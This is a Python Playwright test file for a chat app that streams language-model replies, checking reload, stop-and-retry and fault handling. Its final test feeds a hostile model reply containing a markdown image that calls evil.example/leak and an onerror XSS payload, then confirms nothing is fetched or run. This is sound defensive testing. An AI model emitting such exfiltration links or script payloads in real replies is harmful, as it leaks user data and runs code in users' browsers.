"""A language model that streams, breaks off or fails: what one sees, what is kept, and how one goes on."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from infoview_ai.bootstrap import App
from tests.browser.conftest import Served, Watch
from tests.browser.steps import GREETING, box, enter, messages, say, settled, talk
from tests.model_behaviours import Behaviour, cuts, fails, never_begins, says
from tests.model_server import ModelServer

SLOW = "I came to it sideways. First a bakery, then a care home, and only then the course. It took me six years in all."


def test_a_reply_appears_as_it_comes_and_a_reload_in_the_middle_loses_nothing(
    server_with_model: Served, app_with_model: App, model: ModelServer, page: Page
) -> None:
    enter(page, server_with_model, talk(app_with_model, engine="chat"))
    model.script(says(SLOW, between_s=0.25))
    say(page, GREETING, answered=False)
    reply = messages(page).last
    expect(reply).to_contain_text("I came to it")
    assert "six years" not in reply.inner_text()
    page.reload()
    expect(messages(page)).to_have_count(2)
    expect(messages(page).last).to_contain_text("six years in all.")
    expect(box(page)).to_be_enabled()


def test_a_reply_can_be_stopped_and_asked_for_again(
    server_with_model: Served, app_with_model: App, model: ModelServer, page: Page
) -> None:
    enter(page, server_with_model, talk(app_with_model, engine="chat"))
    model.script(says(SLOW, between_s=0.5))
    say(page, GREETING, answered=False)
    expect(messages(page).last).to_contain_text("I came to it")
    page.get_by_role("button", name="Stop the reply").click()
    expect(page.get_by_role("button", name="Ask again")).to_be_visible()
    expect(messages(page).last).to_contain_text("You stopped the reply.")
    expect(messages(page).last.get_by_test_id("stText")).to_contain_text("I came to it")
    expect(page.get_by_text("Answers by openai:loopback-1")).to_be_visible()
    model.script(says("A bakery first, then the ward."))
    page.get_by_role("button", name="Ask again").click()
    expect(messages(page).last).to_contain_text("A bakery first, then the ward.")
    expect(messages(page)).to_have_count(2)
    expect(page.get_by_role("button", name="Ask again")).to_have_count(0)


@pytest.mark.parametrize(
    "fault",
    [
        fails(401, "bad key"),
        fails(429, "slow down", retry_after=1),
        fails(500),
        cuts("I came to it side"),
        never_begins(6.0),
    ],
    ids=["401", "429", "500", "cut", "silent"],
)
def test_a_fault_keeps_the_line_and_the_clock_and_offers_to_ask_again(
    server_with_model: Served, app_with_model: App, model: ModelServer, page: Page, fault: Behaviour
) -> None:
    enter(page, server_with_model, talk(app_with_model, engine="chat"))
    say(page, "Hello, thank you for your time.")
    clock = page.locator(".clock .left")
    model.script(fault)
    say(page, "How did you get into it?", answered=False)
    alert = messages(page).last.get_by_test_id("stAlert")
    expect(alert).to_be_visible()
    assert "Traceback" not in alert.inner_text()
    assert "key-for-the-loopback" not in page.content()
    before = clock.inner_text()

    page.reload()
    expect(messages(page)).to_have_count(4)
    expect(messages(page).nth(2)).to_contain_text("How did you get into it?")
    expect(clock).to_have_text(before)
    page.get_by_role("button", name="Ask again").click()
    expect(page.get_by_role("button", name="Ask again")).to_have_count(0)
    expect(messages(page)).to_have_count(4)


def test_what_a_model_says_stays_text_and_fetches_nothing(
    server_with_model: Served, app_with_model: App, model: ModelServer, page: Page
) -> None:
    watch = Watch(urlsplit(server_with_model.url).netloc)
    watch.on(page)
    enter(page, server_with_model, talk(app_with_model, engine="chat"))
    hostile = (
        "See ![x](http://evil.example/leak?q=1) <img src=x onerror=window.hacked=1> :red[now] https://evil.example"
    )
    model.script(says(hostile))
    say(page, GREETING)
    settled(page)
    page.wait_for_timeout(150)  # a request would have been made by now
    assert watch.foreign == []
    assert page.evaluate("window.hacked === undefined")
    assert page.get_by_test_id("stMain").locator("a[href*='evil'], img[src*='evil']").count() == 0
